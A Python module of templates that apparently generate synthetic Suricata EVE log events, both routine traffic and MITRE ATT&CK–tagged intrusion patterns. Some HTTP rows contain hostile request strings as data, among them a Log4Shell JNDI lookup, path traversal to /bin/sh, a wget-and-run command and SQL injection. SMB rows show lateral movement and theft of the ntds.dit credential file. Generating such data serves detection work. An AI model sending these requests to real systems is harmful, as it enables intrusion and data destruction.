# ruff: noqa: E501
"""Events of Suricata that are no alerts and have sections of their own: flows, requests, names, anomalies, shares, shells, tickets.

A row is `direction port {sections}`; what stands beside the sections (`proto`) is the transport.
"""
from __future__ import annotations

from .device_marks import tables

_TEXT = r"""
@@ flow
# eve flows by day
out 443 {"app_proto":"«tls|tls|quic|http2»","flow":{"pkts_toserver":«num:5:900»,"pkts_toclient":«num:5:9000»,"bytes_toserver":@medium@,"bytes_toclient":@large@,"age":@while@,"state":"closed","reason":"«timeout|shutdown»","alerted":false},"tcp":{"tcp_flags":"1b","syn":true,"fin":true,"psh":true,"ack":true,"state":"closed"}}
inside «445|389|88|53|1433|5432» {"app_proto":"«smb|ldap|krb5|dns|failed|pgsql»","flow":{"pkts_toserver":«num:5:900»,"pkts_toclient":«num:5:900»,"bytes_toserver":@medium@,"bytes_toclient":@medium@,"age":«num:0:90»,"state":"«closed|established»","reason":"timeout","alerted":false},"tcp":{"tcp_flags":"1b","syn":true,"fin":true,"ack":true,"state":"closed"}}
out «123|53|3478|51820» {"proto":"UDP","app_proto":"«ntp|dns|failed|stun»","flow":{"pkts_toserver":«num:1:90»,"pkts_toclient":«num:1:90»,"bytes_toserver":@small@,"bytes_toclient":@small@,"age":«num:0:40»,"state":"«established|new»","reason":"timeout","alerted":false}}
in «443|80|25» {"app_proto":"«tls|http|smtp»","flow":{"pkts_toserver":«num:5:90»,"pkts_toclient":«num:5:900»,"bytes_toserver":@medium@,"bytes_toclient":@large@,"age":«num:0:90»,"state":"closed","reason":"timeout","alerted":false},"tcp":{"tcp_flags":"1f","syn":true,"fin":true,"rst":true,"ack":true,"state":"closed"}}
inside «445|873|9392|2049» {"app_proto":"«smb|failed|nfs|rsync»","flow":{"pkts_toserver":«num:90000:9000000»,"pkts_toclient":«num:9000:900000»,"bytes_toserver":@huge@,"bytes_toclient":@large@,"age":@long@,"state":"closed","reason":"shutdown","alerted":false},"tcp":{"tcp_flags":"1b","syn":true,"fin":true,"ack":true,"state":"closed"}}
# T1046 eve flows of scans and floods
in «23|445|3389|22|2323|8080|6379|1433|5900|81» {"app_proto":"failed","flow":{"pkts_toserver":«1|2»,"pkts_toclient":«0|1»,"bytes_toserver":«54|60|74»,"bytes_toclient":«0|54»,"age":0,"state":"«new|closed»","reason":"timeout","alerted":false},"tcp":{"tcp_flags":"«02|06|29|00»","syn":true,"state":"«syn_sent|closed»"}}
inside «22|135|139|445|1433|3306|3389|5985|8080|502» {"app_proto":"failed","flow":{"pkts_toserver":«1|2|3»,"pkts_toclient":«0|1»,"bytes_toserver":«num:54:200»,"bytes_toclient":«0|54»,"age":«0|0|1»,"state":"«new|closed»","reason":"timeout","alerted":«false|true»},"tcp":{"tcp_flags":"«02|16|12»","syn":true,"rst":true,"state":"closed"}}
in «80|443|53» {"app_proto":"failed","flow":{"pkts_toserver":«num:90000:9000000»,"pkts_toclient":0,"bytes_toserver":@huge@,"bytes_toclient":0,"age":«num:1:300»,"state":"new","reason":"«timeout|forced»","alerted":true},"tcp":{"tcp_flags":"02","syn":true,"state":"syn_sent"}}
# T1041 eve flows of implants and loot
out «443|22|21|«port»|8443» {"app_proto":"«tls|ssh|failed|ftp-data»","flow":{"pkts_toserver":«num:90000:9000000»,"pkts_toclient":«num:900:90000»,"bytes_toserver":@huge@,"bytes_toclient":@medium@,"age":@long@,"state":"«closed|established»","reason":"«shutdown|timeout»","alerted":«false|true»},"tcp":{"tcp_flags":"1a","syn":true,"psh":true,"ack":true,"state":"established"}}
out «4444|9001|1337|6667|8081|50050|3333|14444» {"app_proto":"«failed|tls|irc|http»","flow":{"pkts_toserver":«num:3:900»,"pkts_toclient":«num:2:900»,"bytes_toserver":@medium@,"bytes_toclient":@small@,"age":@long@,"state":"established","reason":"timeout","alerted":«false|true»},"tcp":{"tcp_flags":"1a","syn":true,"psh":true,"ack":true,"state":"established"}}
out 53 {"proto":"UDP","app_proto":"dns","flow":{"pkts_toserver":«num:2000:90000»,"pkts_toclient":«num:2000:90000»,"bytes_toserver":@large@,"bytes_toclient":@large@,"age":@long@,"state":"established","reason":"timeout","alerted":«false|true»}}
@@ http
# eve requests by day
out 80 {"http":{"hostname":"«ocsp.digicert.com|ctldl.windowsupdate.com|archive.ubuntu.com|«known»»","url":"/««word»/«hex:16»|ubuntu/dists/jammy/InRelease|msdownload/update/v3/static/trustedr/en/authrootstl.cab»","http_user_agent":"«Microsoft-CryptoAPI/10.0|Debian APT-HTTP/1.3 (2.4.«num:1:11»)|«browser»»","http_content_type":"«application/ocsp-response|text/plain|application/vnd.ms-cab-compressed»","http_method":"GET","protocol":"HTTP/1.1","status":«200|304|404»,"length":@medium@}}
inside «80|8080|9200|8086» {"http":{"hostname":"««linux2»|«server»»","url":"/«api/v1/«word»|metrics|health|_bulk|status»","http_user_agent":"«Prometheus/2.«num:30:50».0|Go-http-client/1.1|python-requests/2.«num:25:32».0|Zabbix|curl/7.«num:58:88».0»","http_content_type":"«application/json|text/plain»","http_method":"«GET|POST|GET»","protocol":"HTTP/1.1","status":«200|200|204|401|503»,"length":@medium@}}
in «80|8080» {"http":{"hostname":"www.«sitedomain»","url":"/««word»/«file»|robots.txt|wp-login.php|favicon.ico|»","http_user_agent":"««browser»|Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)|UptimeRobot/2.0»","http_content_type":"text/html","http_method":"«GET|GET|HEAD|POST»","protocol":"HTTP/1.1","status":«200|301|404»,"length":@medium@}}
# T1071.001 eve requests of implants and tools
out «80|8080|«port»» {"http":{"hostname":"««pub»|«domain»|«letters:9».«top|xyz»»","url":"/««letters:3:6».«exe|sh|ps1|dll|hta|bin»|gate.php?id=«hex:16»|submit.php?id=«num:10000:9999999»|«letters:4»|api/v2/«b64:24»|cm|ca|pixel.gif|jquery-3.3.1.min.js?__cfduid=«mixed:60»|tasks/«hex:32»»","http_user_agent":"«Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 5.1)|curl/7.«num:58:88».0|Wget/1.«num:17:21»|Go-http-client/1.1|Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.19041.1|-|WinHTTP loader/1.0|Mozilla/5.0 (Windows NT 10.0; Trident/7.0; rv:11.0) like Gecko»","http_content_type":"«application/octet-stream|application/x-dosexec|text/html|text/plain»","http_method":"«GET|POST»","protocol":"HTTP/1.«0|1|1»","status":«200|200|404»,"length":@medium@}}
in «80|8080|8443|7001|9200» {"http":{"hostname":"««ip»|www.«sitedomain»»","url":"/«?x=${jndi:ldap://«pub»:1389/«letters:6»}|cgi-bin/.%2e/.%2e/.%2e/bin/sh|shell?cd+/tmp;rm+-rf+*;wget+http://«pub»/«letters:4».sh|.env|actuator/gateway/routes/«letters:5»|boaform/admin/formLogin|index.php?s=/Index/%5Cthink%5Capp/invokefunction|ReportServer|solr/admin/info/system|«word».php?id=1%20union%20select%201,version()|vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php»","http_user_agent":"««browser»|Mozilla/5.0 zgrab/0.x|Hello, World|curl/7.29.0|python-requests/2.«num:6:27».0|-»","http_content_type":"«text/html|application/json»","http_method":"«GET|POST|GET»","protocol":"HTTP/1.1","status":«404|403|200|500|400»,"length":@small@}}
inside «80|5985|8080|47001» {"http":{"hostname":"««ip2»|«server»|wpad|wpad.«ad»»","url":"/«wsman|wpad.dat|«letters:4».hta|certsrv/certfnsh.asp|«letters:5».ps1|host-manager/text/list|remDevMsg»","http_user_agent":"«Ruby WinRM Client|Microsoft WinRM Client via python|WinHttp-Autoproxy-Service/5.1|Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1)|python-requests/2.«num:6:27».0»","http_content_type":"«application/soap+xml|text/html|application/x-ns-proxy-autoconfig»","http_method":"«POST|GET»","protocol":"HTTP/1.1","status":«200|200|401»,"length":@medium@}}
@@ dns
# eve names asked by day
inside 53 {"proto":"UDP","dns":{"type":"query","id":«num:1:65535»,"rrname":"««known»|«tech».«sitedomain»|_ldap._tcp.dc._msdcs.«ad»|«server».«ad»|«num:1:254».«num:1:254».168.192.in-addr.arpa|teams.microsoft.com»","rrtype":"«A|AAAA|SRV|PTR|HTTPS»","tx_id":«num:0:3»,"opcode":0}}
out 53 {"proto":"UDP","dns":{"version":2,"type":"answer","id":«num:1:65535»,"flags":"8180","qr":true,"rd":true,"ra":true,"rrname":"««known»|«word».akamaiedge.net|«domain»»","rrtype":"«A|AAAA|TXT»","rcode":"«NOERROR|NOERROR|NXDOMAIN|SERVFAIL»","answers":[{"rrname":"«known»","rrtype":"A","ttl":«num:5:86400»,"rdata":"«peer»"}]}}
# T1071.004 eve names that carry or lead astray
«inside|out» 53 {"proto":"UDP","dns":{"type":"query","id":«num:1:65535»,"rrname":"««hex:48».«letters:4».«domain»|«letters:14:20».«top|info|biz|ru|cc|pw»|«mixed:40:60».t.«domain»|«letters:8».duckdns.org|«pub».in-addr.arpa|xmr.pool.«word».com|«token:16».onion.«ws|ly»»","rrtype":"«TXT|A|NULL|CNAME|MX|A»","tx_id":«num:0:3»,"opcode":0}}
out 53 {"proto":"UDP","dns":{"version":2,"type":"answer","id":«num:1:65535»,"flags":"8«1|5»80","qr":true,"rd":true,"ra":true,"rrname":"««letters:12:18».«top|xyz|ru|cc»|«hex:30».«domain»»","rrtype":"«A|TXT|NULL»","rcode":"«NOERROR|NXDOMAIN»","answers":[{"rrname":"«domain»","rrtype":"«TXT|A»","ttl":«0|1|60|5»,"rdata":"««b64:80»|«pub»|127.0.0.1»"}]}}
@@ anomaly
# eve anomalies that mean little
out «443|80|53» {"anomaly":{"type":"«stream|decode|applayer»","event":"«stream.pkt_invalid_timestamp|stream.pkt_invalid_ack|decoder.ipv4.trunc_pkt|APPLAYER_DETECT_PROTOCOL_ONLY_ONE_DIRECTION|stream.reassembly_seq_gap|decoder.ethernet.unknown_ethertype»","layer":"-"}}
inside «445|389|25» {"anomaly":{"type":"«applayer|stream»","event":"«APPLAYER_WRONG_DIRECTION_FIRST_DATA|stream.est_packet_out_of_window|INVALID_RECORD_TYPE|stream.fin_invalid_ack|stream.3whs_wrong_seq_wrong_ack»","layer":"proto_parser"}}
# T1205 eve anomalies that mean much
«in|out» «53|80|443|«port»» {"anomaly":{"type":"«applayer|decode|stream»","event":"«MALFORMED_DATA in «num:200:9000» answers|decoder.ipv4.frag_overlap|decoder.icmpv4.unknown_type, payload «num:200:1400» bytes|stream.shutdown_syn_resend|METHOD_DELIM_NON_COMPLIANT|UNKNOWN_CONTENT_TYPE heartbeat|ABNORMAL_CE_HEADER|decoder.tcp.opt_invalid_len of one host, «num:20:900» ports|OVERFLOW_HEARTBEAT»","layer":"«proto_parser|-|proto_detect»"}}
in «80|22|25|445» {"anomaly":{"type":"«applayer|decode»","event":"«URI_HOST_INVALID|REQUEST_LINE_LEADING_WHITESPACE|LONG_LINE of «num:2000:90000» bytes|BANNER_INVALID_CHAR|decoder.ipv6.exthdr_dupl_fh|REQUEST_HEADER_REPETITION|MULTIPART_INVALID_HEADER|NEGOTIATE_MALFORMED_DIALECTS»","layer":"proto_parser"}}
@@ smb
# eve shares by day
inside 445 {"smb":{"id":«num:1:900»,"dialect":"3.11","command":"SMB2_COMMAND_«CREATE|READ|WRITE|CLOSE|QUERY_DIRECTORY»","status":"STATUS_«SUCCESS|SUCCESS|OBJECT_NAME_NOT_FOUND|NO_MORE_FILES»","session_id":«num:1000000:999999999»,"tree_id":«num:1:90»,"filename":"«dept»\\«file»","share":"\\\\«server»\\«dept»","disposition":"FILE_OPEN","access":"normal"}}
inside 445 {"smb":{"id":«num:1:900»,"dialect":"«3.11|2.10|NT LM 0.12»","command":"SMB2_COMMAND_SESSION_SETUP","status":"STATUS_«SUCCESS|MORE_PROCESSING_REQUIRED|LOGON_FAILURE»","session_id":«num:1000000:999999999»,"tree_id":0,"ntlmssp":{"domain":"«netbios»","user":"«person»","host":"«workstation»"}}}
inside 445 {"smb":{"id":«num:1:900»,"dialect":"3.11","command":"SMB2_COMMAND_CREATE","status":"STATUS_SUCCESS","session_id":«num:1000000:999999999»,"tree_id":«num:1:90»,"filename":"«wkssvc|srvsvc|spoolss|lsarpc»","share":"\\\\«server»\\IPC$","disposition":"FILE_OPEN","access":"normal"}}
# T1570 eve shares used by intruders
inside 445 {"smb":{"id":«num:1:900»,"dialect":"«3.11|2.02»","command":"SMB2_COMMAND_«CREATE|WRITE»","status":"STATUS_SUCCESS","session_id":«num:1000000:999999999»,"tree_id":«num:1:90»,"filename":"«Windows\\«letters:8».exe|Temp\\«letters:6».dll|PSEXESVC.exe|__output|Users\\Public\\«letters:5».ps1|ProgramData\\«letters:5».bat|NTDS\\ntds.dit»","share":"\\\\««host»|«ip2»»\\«ADMIN$|C$»","disposition":"«FILE_OVERWRITE_IF|FILE_OPEN|FILE_CREATE»","access":"normal"}}
inside 445 {"smb":{"id":«num:1:9»,"dialect":"«2.02|NT LM 0.12|3.11»","command":"SMB2_COMMAND_SESSION_SETUP","status":"STATUS_«LOGON_FAILURE|ACCOUNT_LOCKED_OUT|SUCCESS|MORE_PROCESSING_REQUIRED»","session_id":«num:1000000:999999999»,"tree_id":0,"ntlmssp":{"domain":"«.|«netbios»|WORKGROUP»","user":"«@guessed@|««admin»|administrator»»","host":"««letters:8»|kali|WIN-«HEX:11»|nmap»"}}}
inside 445 {"smb":{"id":«num:1:900»,"dialect":"3.11","command":"SMB2_COMMAND_CREATE","status":"STATUS_«SUCCESS|ACCESS_DENIED»","session_id":«num:1000000:999999999»,"tree_id":«num:1:90»,"filename":"«svcctl|atsvc|winreg|efsrpc|netdfs|RemCom_communicaton|paexec-«num:1000:9999»|msagent_«hex:2»|postex_«hex:4»|status_«hex:2»»","share":"\\\\«server»\\IPC$","disposition":"FILE_OPEN","access":"normal"}}
inside 445 {"smb":{"id":«num:1:9000»,"dialect":"3.11","command":"SMB2_COMMAND_«SET_INFO|WRITE|CREATE»","status":"STATUS_SUCCESS","session_id":«num:1000000:999999999»,"tree_id":«num:1:90»,"filename":"«dept»\\«file».««letters:5:7»|lockbit|akira|crypt»","share":"\\\\«server»\\«dept»","disposition":"FILE_OPEN","rename":{"from":"«dept»\\«file»"},"access":"normal"}}
@@ ssh
# eve shells by day
inside 22 {"ssh":{"client":{"proto_version":"2.0","software_version":"«OpenSSH_«num:7:9».«num:0:9»|PuTTY_Release_0.«num:74:81»|paramiko_3.«num:0:4».0|JSCH_0.1.54|libssh2_1.11.0»","hassh":{"hash":"«hex:32»"}},"server":{"proto_version":"2.0","software_version":"OpenSSH_«num:7:9».«num:0:9»p1"}}}
out 22 {"ssh":{"client":{"proto_version":"2.0","software_version":"OpenSSH_«num:8:9».«num:0:9»","hassh":{"hash":"«hex:32»"}},"server":{"proto_version":"2.0","software_version":"«babeld-«hex:8»|OpenSSH_«num:7:9».«num:0:9»|mod_sftp|AWS_SFTP_1.1»"}}}
# T1110 eve shells tried and tunnelled
in «22|2222» {"ssh":{"client":{"proto_version":"2.0","software_version":"«libssh_0.«num:6:10».«num:0:6»|libssh2_1.«num:4:10».0|Go|paramiko_2.«num:0:9».0|PUTTY|ZGrab ZGrab SSH Survey|Nmap-SSH2-Hostkey|sshlib-0.1|JSCH-0.1.«num:40:53»»","hassh":{"hash":"«hex:32»"}},"server":{"proto_version":"2.0","software_version":"OpenSSH_«num:7:9».«num:0:9»p1"}}}
out «22|443|53|«port»» {"ssh":{"client":{"proto_version":"2.0","software_version":"«OpenSSH_for_Windows_8.1|Plink_Release_0.«num:70:78»|dropbear_2019.78|russh_0.«num:34:50».0»","hassh":{"hash":"«hex:32»"}},"server":{"proto_version":"2.0","software_version":"«dropbear_20«num:16:22».«num:70:83»|Go|OpenSSH_7.4|ROSSSH|SSH-Server-Ngrok-Go»"}}}
@@ krb5
# eve tickets by day
inside 88 {"krb5":{"msg_type":"KRB_«AS_REP|TGS_REP»","cname":"««user»|«workstation»$»","realm":"«ad»","sname":"«krbtgt/«ad»|cifs/«server»|HTTP/«server».«ad»|host/«workstation»»","encryption":"aes256-cts-hmac-sha1-96","weak_encryption":false}}
inside 88 {"krb5":{"msg_type":"KRB_ERROR","cname":"<empty>","realm":"«ad»","sname":"«krbtgt/«ad»|cifs/«server»|host/«ws2»»","encryption":"<none>","error_code":"KDC_ERR_«PREAUTH_REQUIRED|PREAUTH_FAILED|KEY_EXPIRED|S_PRINCIPAL_UNKNOWN|ETYPE_NOSUPP»","failed_request":"KRB_«AS_REQ|TGS_REQ»","weak_encryption":false}}
inside 88 {"krb5":{"msg_type":"KRB_TGS_REP","cname":"«svc»","realm":"«ad»","sname":"«nfs/«linux2»|MSSQLSvc/«server».«ad»:1433»","encryption":"«rc4-hmac|aes128-cts-hmac-sha1-96»","weak_encryption":«true|false»}}
# T1558 eve tickets asked to be cracked or forged
inside 88 {"krb5":{"msg_type":"KRB_«TGS_REP|AS_REP»","cname":"««user»|@guessed@»","realm":"««ad»|«netbios»»","sname":"«MSSQLSvc/«server».«ad»:1433|«svc»|krbtgt/«netbios»|HTTP/«svc».«ad»|kadmin/changepw»","encryption":"«rc4-hmac|des-cbc-md5|rc4-hmac-exp»","weak_encryption":true}}
inside 88 {"krb5":{"msg_type":"KRB_ERROR","cname":"<empty>","realm":"««ad»|«netbios»|«WORD».LOCAL»","sname":"«krbtgt/«netbios»|NM|«svc»»","encryption":"<none>","error_code":"KDC_ERR_«C_PRINCIPAL_UNKNOWN|CLIENT_REVOKED|TGT_REVOKED|BADOPTION|POLICY»","failed_request":"KRB_«AS_REQ|TGS_REQ»","weak_encryption":«true|false»}}
@@ netflow
# eve halves of flows by day
out «443|53|123» {"proto":"«TCP|UDP»","netflow":{"pkts":«num:3:900»,"bytes":@medium@,"start":"%start%","age":«num:0:90»,"min_ttl":«63|64|127»,"max_ttl":«64|127|128»}}
inside «445|53|389|9200» {"proto":"«TCP|UDP»","netflow":{"pkts":«num:3:9000»,"bytes":@large@,"start":"%start%","age":@while@,"min_ttl":«63|127»,"max_ttl":«64|128»}}
# T1571 eve halves of flows to odd ports
out «4444|6667|1337|9001|31337|5555|3333» {"proto":"«TCP|TCP|UDP»","netflow":{"pkts":«num:3:900»,"bytes":@medium@,"start":"%start%","age":@long@,"min_ttl":«63|127»,"max_ttl":«64|128»}}
in «23|2323|445|3389|5060|1433» {"proto":"«TCP|UDP»","netflow":{"pkts":«1|2»,"bytes":«40|60|120|440»,"start":"%start%","age":0,"min_ttl":«num:30:110»,"max_ttl":«num:30:250»}}
"""
EVE_TABLES = tables(_TEXT.replace("%start%", "«utc»"))
